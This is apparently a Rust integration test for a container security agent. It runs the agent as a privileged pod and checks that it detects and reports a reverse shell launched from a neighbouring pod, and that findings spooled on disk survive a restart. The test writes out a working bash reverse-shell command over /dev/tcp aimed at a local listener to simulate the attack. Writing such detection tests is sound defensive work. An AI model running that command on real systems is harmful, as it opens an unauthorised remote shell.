//! Privileged: the agent's own container image (`cargo xtask image`), imported into a real
//! containerd and run the way the DaemonSet runs it — a privileged CRI pod in the node's PID
//! namespace with the host's /sys, cgroup tree, CRI socket and a hostPath spool mounted, its node
//! name from the environment — reports an attack in a neighbouring pod with that pod's name,
//! namespace, labels and image, stays silent on a benign neighbour, answers its health probes,
//! and keeps undelivered findings in the spool across a killed and restarted container.

#[path = "common/agent.rs"]
mod agent;
mod common;
#[path = "common/containerd.rs"]
mod containerd;
#[path = "../../xtask/src/image.rs"]
#[allow(dead_code)]
mod image;

use std::{
    path::{Path, PathBuf},
    time::{Duration, Instant},
};

use agent::{http_get, listen};
use common::privileged;
use containerd::{Containerd, PodSpec, RunningPod};
use serde_json::Value;

const IMAGE: &str = "localhost/shrike:agent-in-pod-test";
const NODE: &str = "test-node-1";

/// Findings the agent container wrote on stdout, from its CRI log.
fn findings_in_log(log: &Path) -> Vec<Value> {
    let text = std::fs::read_to_string(log).unwrap_or_default();
    text.lines()
        .filter_map(|l| {
            // `<RFC 3339 time> stdout F <line>`
            let mut parts = l.splitn(4, ' ');
            let (_, stream, _, line) = (parts.next()?, parts.next()?, parts.next()?, parts.next()?);
            (stream == "stdout").then(|| serde_json::from_str::<Value>(line).ok()).flatten()
        })
        .collect()
}

fn stderr_in_log(log: &Path) -> String {
    let text = std::fs::read_to_string(log).unwrap_or_default();
    text.lines().filter(|l| l.split(' ').nth(1) == Some("stderr")).map(|l| l.splitn(4, ' ').nth(3).unwrap_or_default()).collect::<Vec<_>>().join("\n")
}

struct Node {
    dir: PathBuf,
    config: PathBuf,
    spool: PathBuf,
    metrics_port: u16,
}

fn agent_pod(ctrd: &Containerd, node: &Node, name: &str) -> PodSpec {
    let mut s = PodSpec::new(name, &["/usr/bin/shrike", "--log-format", "json", "run", "--config", "/etc/shrike/shrike.toml"]);
    s.namespace = "shrike".into();
    s.container_name = "shrike".into();
    s.image = Some(IMAGE.into());
    s.host_pid = true;
    s.privileged = true;
    s.env.push(("NODE_NAME".into(), NODE.into()));
    let socket_dir = ctrd.socket.parent().unwrap().to_path_buf();
    s.extra_mounts.extend([
        (PathBuf::from("/sys"), "/sys".to_string(), true),
        (PathBuf::from("/sys/fs/cgroup"), "/sys/fs/cgroup".to_string(), true),
        (socket_dir.clone(), socket_dir.to_string_lossy().into_owned(), true),
        (node.spool.clone(), "/var/lib/shrike".to_string(), false),
        (node.config.parent().unwrap().to_path_buf(), "/etc/shrike".to_string(), true),
    ]);
    s
}

/// GET `path` on 127.0.0.1:`port`; `None` while nothing listens.
fn probe(port: u16, path: &str) -> Option<String> {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    write!(s, "GET {path} HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n").ok()?;
    let mut out = String::new();
    s.read_to_string(&mut out).ok()?;
    Some(out)
}

async fn wait_ready(port: u16, log: &Path, deadline: Duration) {
    let start = Instant::now();
    loop {
        if probe(port, "/readyz").is_some_and(|r| r.starts_with("HTTP/1.1 200") || r.starts_with("HTTP/1.0 200")) {
            return;
        }
        assert!(start.elapsed() < deadline, "the agent in the pod was not ready within {deadline:?}; its log:\n{}", stderr_in_log(log));
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

async fn wait_findings(log: &Path, what: &str, pred: impl Fn(&[Value]) -> bool) -> Vec<Value> {
    let start = Instant::now();
    loop {
        let f = findings_in_log(log);
        if pred(&f) {
            return f;
        }
        assert!(start.elapsed() < Duration::from_secs(30), "{what}: not within 30 s; findings {f:?}\nagent log:\n{}", stderr_in_log(log));
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

fn of_pod<'a>(findings: &'a [Value], pod: &str) -> Vec<&'a Value> {
    findings.iter().filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == pod).collect()
}

#[tokio::test(flavor = "current_thread")]
async fn agent_image_in_a_privileged_host_pid_pod_reports_neighbours() {
    if !privileged("agent_image_in_a_privileged_host_pid_pod_reports_neighbours") {
        return;
    }
    let ctrd = Containerd::start();
    let dir = ctrd.dir.join("agent-in-pod");
    std::fs::create_dir_all(dir.join("etc")).unwrap();
    let archive = dir.join("shrike-image.tar");
    let id = image::write_archive(Path::new(env!("CARGO_BIN_EXE_shrike")), "test", &[IMAGE.to_string()], &archive).expect("image archive");
    let size = std::fs::metadata(&archive).unwrap().len();
    println!("image {id}: {size} bytes");
    assert!(size < 64 * 1024 * 1024, "the image stays small: {size} bytes");
    ctrd.import_image(&archive);

    let metrics_port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let node = Node { config: dir.join("etc/shrike.toml"), spool: dir.join("spool"), dir: dir.clone(), metrics_port };
    std::fs::create_dir_all(&node.spool).unwrap();
    // A webhook that is down: findings wait in the spool on the node.
    let dead_port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    std::fs::write(
        &node.config,
        format!(
            "[metrics]\nlisten = \"127.0.0.1:{metrics_port}\"\n[container]\nruntime_endpoint = \"unix://{}\"\n[sinks]\nspool_dir = \"/var/lib/shrike/spool\"\n[[sinks.webhook]]\nname = \"siem\"\nurl = \"http://127.0.0.1:{dead_port}/ingest\"\nbackoff_initial_ms = 200\nbackoff_max_ms = 1000\n",
            ctrd.socket.display()
        ),
    )
    .unwrap();

    let spec = agent_pod(&ctrd, &node, "shrike-agent");
    let started = Instant::now();
    let agent_pod: RunningPod = ctrd.run_pod(&spec).await;
    let log = ctrd.container_log(&spec);
    wait_ready(node.metrics_port, &log, Duration::from_secs(60)).await;
    println!("pod start to ready: {:?}", started.elapsed());
    let health = http_get(&format!("127.0.0.1:{}", node.metrics_port), "/healthz");
    assert!(health.contains(" 200 ") && health.ends_with("ok\n"), "{health}");

    // A reverse shell in a neighbouring pod, and a benign neighbour.
    let l = listen("id; exit\n");
    let mut attack = PodSpec::new("web-attacked", &["/bin/bash", "-c", &format!("exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", l.port)]);
    attack.labels.insert("tier".into(), "frontend".into());
    let attack_pod = ctrd.run_pod(&attack).await;
    let benign = ctrd.run_pod(&PodSpec::new("web-benign", &["/bin/sh", "-c", "ls / >/dev/null; id; sleep 1"])).await;
    let findings = wait_findings(&log, "a Reverse Shell from the attacked pod", |f| {
        of_pod(f, "web-attacked").iter().any(|x| x["finding"]["category"] == "Reverse Shell")
    })
    .await;
    let rs = of_pod(&findings, "web-attacked").into_iter().find(|x| x["finding"]["category"] == "Reverse Shell").unwrap().clone();
    let p = &rs["finding"]["kubernetes"]["pods"][0];
    assert_eq!(p["ns"], "shrike-test");
    assert_eq!(p["name"], "web-attacked");
    assert!(p["labels"].as_array().unwrap().iter().any(|l| l["name"] == "tier" && l["value"] == "frontend"), "{p}");
    assert_eq!(rs["finding"]["containers"][0]["uri"], containerd::TOOLS_IMAGE);
    assert_eq!(rs["finding"]["sourceProperties"]["VM_Instance_Name"], NODE, "NODE_NAME from the environment");
    assert_eq!(rs["finding"]["sourceProperties"]["Enrichment"], "complete");
    assert!(rs["finding"]["processes"][0]["binary"]["sha256"].as_str().is_some_and(|h| h.len() == 64), "the neighbour's executable read through the host's view: {rs}");
    // Nothing from the benign neighbour, nor from the agent's own pod.
    tokio::time::sleep(Duration::from_secs(3)).await;
    let findings = findings_in_log(&log);
    assert!(of_pod(&findings, "web-benign").is_empty(), "benign neighbour flagged: {:?}", of_pod(&findings, "web-benign"));
    assert!(of_pod(&findings, "shrike-agent").is_empty(), "the agent flagged itself");

    // The webhook is down: the findings are in the spool on the node; kill the container
    // (SIGKILL, no grace) and start it again: the spool is picked up.
    let spooled = |d: &Path| std::fs::read_dir(d.join("siem")).map(|r| r.flatten().filter(|e| e.path().extension().is_some_and(|x| x == "json")).count()).unwrap_or(0);
    // The hostPath is mounted at /var/lib/shrike; the configured spool_dir is its `spool/`.
    let spool = node.spool.join("spool");
    let before = spooled(&spool);
    assert!(before >= 1, "findings spooled on the node: {before}");
    ctrd.stop_container(&agent_pod.container_id, 0).await;
    ctrd.remove_pod(&agent_pod).await;
    assert_eq!(spooled(&spool), before, "a killed agent keeps its spool");
    let restarted = agent_pod_restart(&ctrd, &node).await;
    let log2 = ctrd.container_log(&restarted.spec);
    wait_ready(node.metrics_port, &log2, Duration::from_secs(60)).await;
    let metrics = http_get(&format!("127.0.0.1:{}", node.metrics_port), "/metrics");
    let spool_bytes = agent::metric(&metrics, "shrike_sink_spool_bytes{sink=\"siem\"}");
    assert!(spool_bytes > 0.0, "the restarted agent picked up the spool:\n{metrics}");
    // A graceful stop (SIGTERM within the grace period) exits cleanly.
    ctrd.stop_container(&restarted.container_id, 30).await;
    let stopped_log = stderr_in_log(&log2);
    assert!(stopped_log.contains("shrike stopped"), "{stopped_log}");
    assert!(stopped_log.lines().all(|l| serde_json::from_str::<Value>(l).is_ok_and(|v| v["severity"].is_string())), "JSON logs:\n{stopped_log}");
    for p in [&attack_pod, &benign, &restarted] {
        ctrd.remove_pod(p).await;
    }
    let _ = l;
    let _ = node.dir;
    ctrd.stop();
}

async fn agent_pod_restart(ctrd: &Containerd, node: &Node) -> RunningPod {
    let spec = agent_pod(ctrd, node, "shrike-agent-2");
    ctrd.run_pod(&spec).await
}
